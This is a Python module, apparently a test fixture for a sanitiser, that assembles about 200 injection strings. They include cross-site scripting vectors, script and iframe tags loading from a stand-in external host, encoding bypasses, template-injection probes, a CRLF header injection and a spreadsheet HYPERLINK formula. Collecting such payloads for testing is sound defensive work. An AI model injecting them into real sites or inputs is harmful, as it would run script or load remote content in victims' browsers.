"""Two hundred texts that would run in a browser, or fetch something, if a page took them for its own.

Each is whole by itself and short, so that the shortest field has room for one: ``ran=1`` marks the window, and
``//e.example`` is not ours. What opens something and does not end it would hide those after it, so it stands last.
"""

OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "--></style>", "</select></option>", "</svg></math>")
ELEMENTS = (
    "<img src=x onerror=ran=1>",
    "<svg onload=ran=1></svg>",
    "<svg><animate onbegin=ran=1></svg>",
    "<audio src=x onerror=ran=1>",
    "<details open ontoggle=ran=1>",
    "<input autofocus onfocus=ran=1>",
    "<video onloadstart=ran=1 src=x>",
    "<p onpointerenter=ran=1>x</p>",
    "<script>ran=1</script>",
    "<script src=//e.example></script>",
    "<a href=javascript:ran=1>x</a>",
    "<form action=javascript:ran=1></form>",
    "<iframe src=//e.example></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=//e.example></object>",
    "<img src=//e.example>",
    "<img srcset=//e.example>",
    "<video poster=//e.example></video>",
    "<input type=image src=//e.example>",
    "<link rel=stylesheet href=//e.example>",
    "<base href=//e.example>",
    "<style>@import'//e.example'</style>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
)
OTHERS = (
    '" onfocus=ran=1 autofocus x="',
    "' onfocus=ran=1 autofocus x='",
    "javascript:ran=1",
    "data:text/html,<script>ran=1</script>",
    "&lt;img src=x onerror=ran=1&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "＜script＞ran=1＜/script＞",
    "<ｓcript>ran=1</ｓcript>",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "{{ ''.__class__ }}",
    "{% raw %}",
    "${7*7}",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran=1</x:script>",
    "%0d%0aX-Run: 1",
    "=HYPERLINK(//e.example)",
    "<!--",
)
PAYLOADS = tuple(f"{opening}{element}" for opening in OPENINGS for element in ELEMENTS) + OTHERS
WHOLE = "".join(PAYLOADS)
